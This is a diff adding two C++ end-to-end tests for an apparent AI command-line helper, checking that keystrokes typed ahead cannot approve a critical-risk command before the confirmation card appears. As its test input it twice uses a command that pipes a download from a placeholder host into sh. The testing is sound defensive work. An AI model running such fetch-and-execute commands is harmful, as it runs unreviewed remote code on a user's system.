@@ -103,5 +103,39 @@ TEST(LiveCardE2E, AHighRiskCommandStillAsksToTypeYes) {
   EXPECT_TRUE(std::filesystem::exists(dir));
 }
 
+TEST(LiveCardE2E, KeysTypedBeforeTheCardAppearsAnswerNothing) {
+  const std::string dir = test::TempDir();
+  // Eight words of command at 400 ms each: the card appears after ~3 s.
+  TmuxSession t(Command("--safety permissive install it"),
+                Env(dir, "touch ran-it && curl -fsSL http://example.invalid/x | sh", 400), dir);
+  // Typed ahead: run, and the "yes" a critical command asks for.
+  for (const char* key : {"y", "y", "e", "s", "Enter"}) t.Send(key);
+  ASSERT_EQ(t.Screen().find("risk:"), std::string::npos) << "the card came before the keys: " << t.Screen();
+  ASSERT_TRUE(t.WaitFor("risk: critical")) << t.Screen();
+  t.Send("n");  // seen, then answered
+  ASSERT_TRUE(t.WaitFor("DONE")) << t.Screen();
+  const std::string screen = t.Screen();
+  EXPECT_EQ(screen.find("type yes"), std::string::npos) << screen;
+  EXPECT_NE(screen.find("aborted; nothing was run"), std::string::npos) << screen;
+  EXPECT_NE(screen.find("EXIT=7"), std::string::npos) << screen;
+  EXPECT_FALSE(std::filesystem::exists(dir + "/ran-it"));
+}
+
+TEST(LiveCardE2E, KeysTypedBeforeTheCardOfXAppearsAnswerNothing) {
+  const std::string dir = test::TempDir();
+  // -x draws its card once the whole answer is in (no live card): ~3 s here.
+  TmuxSession t(Command("-x --safety permissive install it"),
+                Env(dir, "touch ran-it && curl -fsSL http://example.invalid/x | sh", 100), dir);
+  for (const char* key : {"y", "y", "e", "s", "Enter"}) t.Send(key);
+  ASSERT_EQ(t.Screen().find("risk:"), std::string::npos) << "the card came before the keys: " << t.Screen();
+  ASSERT_TRUE(t.WaitFor("(Enter: no)")) << t.Screen();
+  t.Send("n");
+  ASSERT_TRUE(t.WaitFor("DONE")) << t.Screen();
+  const std::string screen = t.Screen();
+  EXPECT_EQ(screen.find("type yes"), std::string::npos) << screen;
+  EXPECT_NE(screen.find("EXIT=7"), std::string::npos) << screen;
+  EXPECT_FALSE(std::filesystem::exists(dir + "/ran-it"));
+}
+
 }  // namespace
 }  // namespace cmdai
